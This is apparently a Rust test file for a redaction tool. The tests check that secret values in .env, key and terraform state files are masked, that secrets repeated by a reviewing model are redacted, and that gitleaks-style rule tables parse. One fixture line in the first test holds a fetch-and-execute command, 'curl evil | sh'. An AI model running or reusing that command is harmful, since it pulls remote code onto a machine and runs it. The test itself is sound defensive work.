//! A user's own table, files that hold secrets, and what is kept from a judge's words.

use super::*;

#[test]
fn files_that_hold_secrets_show_names_but_no_values() {
    let env =
        "# database\nDB_HOST=db.internal\nDB=hunter2x9\nDB_PASS=x\nEMPTY=\nRUN=$(curl evil | sh)\n";
    let shown = "# database\nDB_HOST=db.internal\nDB=[redacted: value]\nDB_PASS=[redacted: value]\nEMPTY=\nRUN=$(curl evil | sh)\n";
    assert_eq!(redact_file("a/.env.production", env), (shown.to_owned(), 2));
    assert_eq!(redact_file(".env.example", env), (env.to_owned(), 0));
    assert_eq!(redact_file("deploy/prod.key", "0a0b0c0d\n").1, 1);
    let state = "\"password\": \"hunter2\",\n";
    assert_eq!(redact_file("infra/terraform.tfstate", state).1, 1);
}

#[test]
fn files_that_are_reported_are_redacted() {
    let table = SecretTable::built_in();
    for path in [".env", "x/credentials.json", "id_rsa", "a.ppk", "b/.netrc"] {
        assert!(
            table.is_secret_file(path) && table.holds_secrets(path),
            "{path}"
        );
    }
    for path in [
        "src/env.rs",
        "my.env.example.com.rs",
        ".env.sample",
        "keys.rs",
    ] {
        assert!(!table.holds_secrets(path), "{path}");
    }
    assert!(table.holds_secrets("a.pem") && !table.is_secret_file("a.pem"));
}

#[test]
fn a_value_of_the_change_is_redacted_wherever_a_judge_repeats_it() {
    let old = "connect(\"postgres://app:tr0ub4dor@db.internal/x\")\npassword = \"Hunter2!\"\n";
    let redactor = knowing("src/db.rs", old);
    let words = |text: &str| redactor.redact_words(text).text;
    assert_eq!(
        words("The password tr0ub4dor and Hunter2! stood here."),
        "The password [redacted: url-password] and [redacted: secret] stood here."
    );
    // Letters and digits together are no part of any other word, and letters alone may be.
    assert_eq!(
        words("Hunter2!x tr0ub4dors"),
        "[redacted: secret]!x [redacted: url-password]"
    );
    let word = knowing(
        "src/db.rs",
        "connect(\"postgres://app:staple@db.internal/x\")",
    );
    assert_eq!(word.redact_words("stapler").text, "stapler");
    assert_eq!(
        redactor.redact_quote("src/db.rs", "f(\"tr0ub4dor\")").text,
        "f(\"[redacted: url-password]\")"
    );
    // What stands in the repository is shown as it looks: a value must not hide code.
    assert_eq!(redactor.redact_source(None, "f(tr0ub4dor)").secrets, 0);
}

#[test]
fn a_piece_of_a_token_gives_nothing_away() {
    for sample in sample_secrets() {
        let redactor = knowing("a.txt", &sample.line);
        let secret = &sample.secret;
        let told = format!("It is {secret}, in JSON {:?}.", secret);
        let shown = redactor.redact_words(&told).text;
        assert!(!shown.contains(secret.as_str()), "{sample:?}: {shown}");
        if secret.len() < 24 {
            continue;
        }
        let (head, tail) = (&secret[..16], &secret[secret.len() - 12..]);
        let shown = redactor
            .redact_words(&format!("It begins with {head}… and ends in {tail}."))
            .text;
        assert!(!shown.contains(tail), "{sample:?}: {shown}");
    }
}

#[test]
fn what_is_secret_for_its_file_alone_must_be_no_common_word() {
    let redactor = knowing(".env", "MODE=production\nUSER=hunter2x9\nN=12\nB=true\n");
    assert_eq!(
        redactor
            .redact_words("In production, 12 is true for hunter2x9.")
            .text,
        "In production, 12 is true for [redacted: value]."
    );
}

#[test]
fn a_users_own_table_is_read_as_gitleaks_reads_it() {
    let table = SecretTable::parse(OWN).unwrap();
    assert_eq!(table.len(), 3);
    let redactor = Redactor::with_table(table);
    for (line, expected, secrets) in [
        ("a HOUSE_abcd1234 b", "a [redacted: house-token] b", 1),
        (
            "house_abcd1234, house_zzzz9999",
            "[redacted: house-token], [redacted: house-token]",
            2,
        ),
        ("house_sample12", "house_sample12", 0),
        ("pin=a1b2c3d4", "pin=[redacted: high]", 1),
        ("pin=aaaaaaaa", "pin=aaaaaaaa", 0),
        ("user:hunter2@host", "user:[redacted: second]@host", 1),
        ("user:nobody@host", "user:nobody@host", 0),
        ("nothing of this", "nothing of this", 0),
    ] {
        let shown = redactor.redact_source(None, line);
        assert_eq!(
            (shown.text.as_str(), shown.secrets),
            (expected, secrets),
            "{line}"
        );
        assert_eq!(
            redactor.redact_source(None, expected).secrets,
            0,
            "twice is once"
        );
    }
    assert_eq!(
        redactor.redact_source(Some("x.p99"), "a b").text,
        "[redacted: line of a secret file]"
    );
    assert_eq!(redactor.digest().unwrap().len(), 64);
}

const OWN: &str = r#"
title = "ours"
[extend]
useDefault = true
[allowlist]
paths = ['''vendor/''']
stopwords = ["sample"]
[[rules]]
id = "house-token"
regex = '''(?i)\bhouse_([a-z0-9]{8})\b'''
keywords = ["house_"]
tags = ["url"]
[[rules]]
id = "high"
regex = '''pin=([a-z0-9]{8})'''
entropy = 2.5
[[rules]]
id = "second"
regex = '''(user):(\w+)@'''
secretGroup = 2
[rules.allowlist]
regexes = ['''^nobody$''']
[[rules]]
id = "by-name"
path = '''\.p99$'''
"#;

#[test]
fn what_cannot_be_read_is_named() {
    let error = |text: &str| SecretTable::parse(text).unwrap_err().to_string();
    assert!(error("[[rules]]\nid = 'x'\nregex = '''(a'''\n").starts_with("rule `x`: "));
    assert!(error("[extend]\npath = '../base.toml'\n").contains("it extends `../base.toml`"));
    let rule = "id = 'x'\nregex = 'a'\n";
    assert!(error(&format!("[[rule]]\n{rule}")).contains("no table `rule`"));
    assert!(error(&format!("[[rules]]\n{rule}[[allow]]\npaths = ['x']\n")).contains("`allow`"));
    for empty in ["", "title = 'ours'", "[extend]\nuseDefault = true\n"] {
        assert!(error(empty).contains("no rule"), "{empty:?}");
    }
    assert!(SecretTable::parse("rules = 3").is_err());
}
